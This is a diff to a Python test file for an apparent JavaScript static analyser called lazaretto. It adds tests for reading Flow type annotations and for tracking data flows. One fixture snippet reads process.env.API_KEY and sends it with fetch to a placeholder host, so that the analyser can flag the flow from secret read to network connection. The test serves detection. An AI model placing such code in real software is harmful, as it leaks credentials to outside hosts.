@@ -3,7 +3,7 @@
 import pytest
 
 from lazaretto.core.facts import Kind
-from tests.languages.javascript_reading import read, values
+from tests.languages.javascript_reading import flows, read, values
 
 ALLOWED = {
     "targets-in-parentheses": "({a: (x), b: (y.z) = 1} = w); [(a), ...(b)] = c;",
@@ -33,6 +33,15 @@ TYPED = {
     "quoted-templates": "type A = `the \\`b\\` of ${C}`",
     "lists-of-imported-types": "namespace a { export function f(b: import('./c.js').D[]) {} }",
 }
+FLOW = {
+    "types": "type A = ?{ b?: string };\nexport type { A } from './a';\nfunction f(b: ?A, ...c: Array<?A>): void {}",
+    "exact": "type A = {| b: string |}; const c: {||} = {};",
+    "variance": "type A = { +b: string, -[c: string]: number };",
+    "functions": "function f(b: Arg => Return): string => V { return b; }",
+    "casts": "const a = f((b: any));",
+    "imports": "import typeof A from 'a'; import type B from 'b'; opaque type C = string;",
+    "pages": "const a = (b: C) => <div>{b}</div>;",
+}
 REFUSED = {
     "unclosed": "({a: (x)} = y); f(",
     "nonsense": "export { a as delete }; let a; ) (",
@@ -50,6 +59,32 @@ def test_what_node_accepts_is_understood(source: str) -> None:
 def test_what_typescript_accepts_is_understood(source: str) -> None:
     """The same in TypeScript."""
     assert read(source, "typescript").problems == ()
+
+
+@pytest.mark.parametrize("source", FLOW.values(), ids=FLOW)
+def test_what_says_that_it_is_flow_is_read_with_types(source: str) -> None:
+    """Only if it says so: nothing else in a file of JavaScript may have types."""
+    assert read(f"/** @flow strict */\n{source}").problems == ()
+    assert read(source).problems
+
+
+def test_what_says_that_it_is_flow_hides_nothing() -> None:
+    """What is a type to one reading and code to the other is seen, and so is what goes on from there."""
+    facts = read(
+        "// @flow\ntype A = ?string;\nf<import('a.invalid')>(1);\n"
+        "const b: A = process.env.API_KEY;\nfetch('https://a.invalid/' + b);\nexport const c = (d) => fetch(d);"
+    )
+    assert facts.problems == ()
+    assert "a.invalid" in values(facts, Kind.IMPORT)
+    assert (Kind.SECRET_READ, Kind.NET_CONNECT) in flows(facts)
+    assert facts.ports and facts.calls  # noqa: PT018 - either by the other
+    assert len(set(facts.facts)) == len(facts.facts)
+
+
+def test_flow_that_is_broken_is_a_problem() -> None:
+    """Types are no excuse, and what is understood better without them stays as it was."""
+    assert read("// @flow\ntype A = ?string; f(;").problems
+    assert read("// @flow\nf(;").problems == read("// none\nf(;").problems
 
 
 @pytest.mark.parametrize("source", REFUSED.values(), ids=REFUSED)
